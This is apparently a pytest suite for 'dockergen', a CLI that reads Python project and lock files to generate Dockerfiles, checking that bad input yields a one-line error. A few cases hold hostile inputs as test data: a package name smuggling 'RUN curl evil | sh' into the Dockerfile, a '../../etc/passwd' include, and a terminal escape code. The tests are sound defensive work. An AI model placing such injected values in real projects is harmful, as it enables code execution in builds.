"""Bad input: a one-line error naming the file and the problem, exit code 2, never a traceback."""

import json

import pytest
from click.testing import CliRunner

from dockergen.cli import main

UV_PYPROJECT = '[project]\nname = "x"\nversion = "1"\nrequires-python = ">=3.11"\ndependencies = []\n'


def run_inspect(path):
    return CliRunner().invoke(main, ["inspect", str(path)])


@pytest.mark.parametrize(
    ("files", "message"),
    [
        ({"pyproject.toml": "[project\nname = 'x'"}, "pyproject.toml: invalid TOML"),
        ({"pyproject.toml": b"[project]\nname = '\xff'"}, "pyproject.toml: not valid UTF-8"),
        ({"pyproject.toml": UV_PYPROJECT, "uv.lock": "version = 7\n"}, "uv.lock: unsupported lock version 7"),
        ({"pyproject.toml": UV_PYPROJECT, "uv.lock": "version = [1"}, "uv.lock: invalid TOML"),
        ({"uv.lock": "version = 1\n"}, "uv.lock: uv project without pyproject.toml"),
        ({"poetry.lock": "[metadata]\nlock-version = '2.1'\n"}, "poetry.lock: poetry.lock without pyproject.toml"),
        (
            {"pyproject.toml": UV_PYPROJECT, "poetry.lock": "[metadata]\nlock-version = '1.1'\n"},
            "poetry.lock: unsupported lock-version '1.1'",
        ),
        ({"pdm.lock": "[metadata]\nlock_version = '4.5.0'\n"}, "pdm.lock: pdm.lock without pyproject.toml"),
        (
            {"pyproject.toml": UV_PYPROJECT, "pdm.lock": "[metadata]\nlock_version = '3.0'\n"},
            "pdm.lock: unsupported lock_version '3.0'",
        ),
        ({"Pipfile.lock": "{}"}, "Pipfile.lock: Pipfile.lock without its Pipfile"),
        ({"Pipfile": "[packages]\n", "Pipfile.lock": "{not json"}, "Pipfile.lock: invalid JSON"),
        (
            {"Pipfile": "[packages]\n", "Pipfile.lock": '{"_meta": {"pipfile-spec": 5}}'},
            "Pipfile.lock: unsupported pipfile-spec 5",
        ),
        ({"pylock.toml": 'lock-version = "2.0"\n'}, "pylock.toml: unsupported lock-version '2.0'"),
        ({"requirements.txt": "-r missing.txt\n"}, "requirements.txt: includes 'missing.txt', which does not exist"),
        ({"requirements.txt": "-r ../../etc/passwd\n"}, "which is outside the project"),
        ({"requirements.txt": "flask ==== 1\n"}, "requirements.txt: cannot read requirement"),
        (
            {"pyproject.toml": '[project]\nname = "x"\ndependencies = "flask"\n'},
            "pyproject.toml: project.dependencies must be a list, not str",
        ),
        (
            {
                "pyproject.toml": '[project]\nname = "x"\nrequires-python = ">=3.20"\n'
                '[build-system]\nbuild-backend = "x"\n'
            },
            "no released CPython satisfies",
        ),
        ({"pyproject.toml": '[tool.dockergen]\nmanagr = "uv"\n'}, "unknown [tool.dockergen] setting 'managr'"),
        ({"pyproject.toml": '[tool.dockergen]\nmanager = "conda"\n'}, "manager = 'conda': one of"),
        (
            {
                ".python-version": "3.13\n",
                "requirements.txt": "flask\n",
                "pyproject.toml": "[tool.dockergen]\nport = 0\n",
            },
            "port = 0 must be an integer 1-65535",
        ),
        ({"README.md": "nothing here"}, "no Python project found"),
        ({"setup.cfg": "[metadata\nname = x"}, "setup.cfg: invalid INI"),
        (
            {"requirements.txt": "flask\n", ".python-version": "pypy3.10\n"},
            ".python-version: cannot read a CPython version",
        ),
    ],
)
def test_bad_input_is_one_line_with_exit_2(make_project, files, message):
    result = run_inspect(make_project(files))
    assert result.exit_code == 2, result.output
    assert message in result.output
    assert result.output.startswith("dockergen: error: ")
    assert result.output.count("\n") == 1
    assert "Traceback" not in result.output


def test_include_loop_is_read_once(make_project):
    path = make_project(
        {"requirements.txt": "-r other.txt\nflask==3.1.0\n", "other.txt": "-r requirements.txt\nclick==8.1.0\n"}
    )
    result = CliRunner().invoke(main, ["inspect", "--json", str(path)])
    assert result.exit_code == 0, result.output
    assert '"name": "click"' in result.output and '"name": "flask"' in result.output


def test_symlink_loop_is_an_error_not_a_hang(make_project):
    path = make_project({"pyproject.toml": '[project]\nname = "x"\n[build-system]\nbuild-backend = "x"\n'})
    (path / "requirements.txt").symlink_to(path / "requirements.txt")
    result = run_inspect(path)
    assert result.exit_code == 2
    assert "requirements.txt: cannot read: a symbolic link that leads nowhere" in result.output


def test_missing_directory(tmp_path):
    result = run_inspect(tmp_path / "nope")
    assert result.exit_code == 2
    assert "not a directory" in result.output


@pytest.mark.parametrize(
    ("files", "message"),
    [
        ({"pyproject.toml": UV_PYPROJECT + "[tool.uv]\npackage = false\n"}, "pyproject.toml: no uv.lock beside it"),
        ({"pyproject.toml": UV_PYPROJECT + "[tool.poetry]\npackage-mode = false\n"}, "no poetry.lock beside it"),
        ({"pyproject.toml": UV_PYPROJECT + "[tool.pdm]\ndistribution = false\n"}, "no pdm.lock beside it"),
        ({"Pipfile": '[packages]\nclick = "*"\n'}, "Pipfile: no Pipfile.lock beside it"),
    ],
    ids=["uv", "poetry", "pdm", "pipenv"],
)
def test_a_manager_without_its_lock_is_told_to_lock_and_nothing_is_written(make_project, files, message):
    path = make_project({**files, "app.py": "print(1)\n"})
    assert run_inspect(path).exit_code == 0, "inspect shows what it found, lock or not"
    result = CliRunner().invoke(main, ["init", str(path)])
    assert result.exit_code == 2, result.output
    assert message in result.output and "lock` first" in result.output
    assert result.output.count("\n") == 1
    assert not (path / "Dockerfile").exists() and not (path / ".dockerignore").exists()


@pytest.mark.parametrize(
    ("files", "message"),
    [
        (
            {"requirements.txt": "-e ./libs/tool\nclick==8.1.8\n", "libs/tool/setup.py": ""},
            "requirements.txt: installs './libs/tool' from the project tree",
        ),
        ({"requirements.txt": "-e .\n"}, "requirements.txt: installs the project itself ('.'), which has no setup.py"),
        (
            {"requirements.txt": "-e .[fast]\n", "setup.py": "from setuptools import setup\nsetup()\n"},
            "requirements.txt: installs the project with extras ('.[fast]')",
        ),
        (
            {"requirements.txt": "-r base.txt\n", "base.txt": "-e .\n", "setup.py": ""},
            "base.txt: installs '.' from the project tree",
        ),
    ],
    ids=["other-path", "no-package", "extras", "in-an-include"],
)
def test_a_requirements_path_the_deps_step_cannot_install_is_an_error(make_project, files, message):
    path = make_project({**files, "app.py": "print(1)\n"})
    result = CliRunner().invoke(main, ["generate", "--stdout", str(path)])
    assert result.exit_code == 2, result.output
    assert message in result.output and result.output.count("\n") == 1


def uv_project_with_path_package(make_project, name: str, directory: str):
    """A uv app whose lock installs `name` from `directory` (written as uv would, but by hand)."""
    lock = (
        'version = 1\nrevision = 3\nrequires-python = ">=3.11"\n\n'
        '[[package]]\nname = "app"\nversion = "1"\nsource = { virtual = "." }\n'
        f"dependencies = [{{ name = {json.dumps(name)} }}]\n\n"
        f'[[package]]\nname = {json.dumps(name)}\nversion = "1"\nsource = {{ directory = {json.dumps(directory)} }}\n'
    )
    return make_project(
        {
            "pyproject.toml": UV_PYPROJECT.replace("[]", '["lib"]')
            + f'[tool.uv.sources]\nlib = {{ path = "{directory}" }}\n',
            "uv.lock": lock,
            "lib/pyproject.toml": '[project]\nname = "lib"\nversion = "1"\n',
            "app.py": "print(1)\n",
        }
    )


@pytest.mark.parametrize(
    ("name", "directory", "message"),
    [
        ("lib", "../lib", "uv.lock: installs lib from '../lib', outside the project, which the build context"),
        (
            "lib\nRUN curl evil | sh",
            "lib",
            "uv.lock: package name 'lib\\nrun curl evil | sh' is not a valid name",
        ),
    ],
    ids=["outside-the-project", "hostile-name"],
)
def test_a_path_package_the_dockerfile_cannot_take_is_an_error(make_project, name, directory, message):
    path = uv_project_with_path_package(make_project, name, directory)
    result = CliRunner().invoke(main, ["generate", "--stdout", str(path)])
    assert result.exit_code == 2, result.output
    assert message in result.output


def test_the_summary_shows_control_characters_from_a_lock_as_escapes(make_project):
    escape = "\x1b[2J"  # clears the terminal
    requirements = f"-i https://pkgs.example/simple{escape}\nclick==8.1.8\n"
    path = make_project({"requirements.txt": requirements, "main.py": "print(1)\n"})
    result = CliRunner().invoke(main, ["inspect", str(path)])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "https://pkgs.example/simple\\x1b[2J" in result.output
